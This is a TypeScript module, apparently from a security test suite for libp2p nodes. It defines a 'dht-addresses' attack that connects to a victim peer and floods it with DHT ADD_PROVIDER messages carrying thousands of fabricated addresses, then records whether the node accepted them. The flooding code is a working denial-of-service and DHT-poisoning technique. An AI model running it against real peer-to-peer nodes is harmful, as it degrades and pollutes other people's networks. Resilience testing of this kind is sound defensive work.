/** Row 2: a few DHT messages that carry thousands of addresses. */
import { randomBytes } from 'node:crypto'
import { multiaddr } from '@multiformats/multiaddr'
import type { Attack } from './attack.ts'
import { finding } from './attack.ts'
import { bytesField, delimited, numberField } from './protobuf.ts'
import { DHT_PROTOCOL, dial, openStream, sendAll, stranger } from './stranger.ts'
import { pause } from './waiting.ts'
import { ADD_PROVIDER, cidOf, Field } from './dht-messages.ts'

const MESSAGES = 4
const ADDRESSES = 4_500

/** Different from one another, ten bytes each. */
export function addressBytes(index: number): Uint8Array {
  return multiaddr(`/ip4/10.${index >> 16}.${(index >> 8) & 0xff}.${index & 0xff}/tcp/${1_024 + (index % 60_000)}`).bytes
}

export const dhtAddresses: Attack = {
  row: 2,
  name: 'dht-addresses',
  against: ['secret', 'open'],
  async run({ victim, source, pressing }) {
    const libp2p = await stranger(source)
    try {
      const connection = await dial(libp2p, victim.address)
      const id = libp2p.peerId.toMultihash().bytes
      let taken = 0
      for (let message = 0; message < MESSAGES; message += 1) {
        const stream = await openStream(connection, DHT_PROTOCOL)
        if (stream === undefined) break
        const first = message * ADDRESSES
        const addresses = Array.from({ length: ADDRESSES }, (_, index) => bytesField(Field.addresses, addressBytes(first + index)))
        const provider = Buffer.concat([bytesField(Field.id, id), ...addresses])
        const cid = cidOf(randomBytes(32))
        const fields = [numberField(Field.type, ADD_PROVIDER), bytesField(Field.key, cid), bytesField(Field.providers, provider)]
        if (await sendAll(stream, delimited(...fields))) taken += 1
      }
      await pressing()
      await pause(2_000)
      return [finding(true, taken === 0 ? 'the DHT is not served to a stranger' : `${taken} messages of ${ADDRESSES} addresses sent`)]
    } finally {
      await libp2p.stop()
    }
  },
}
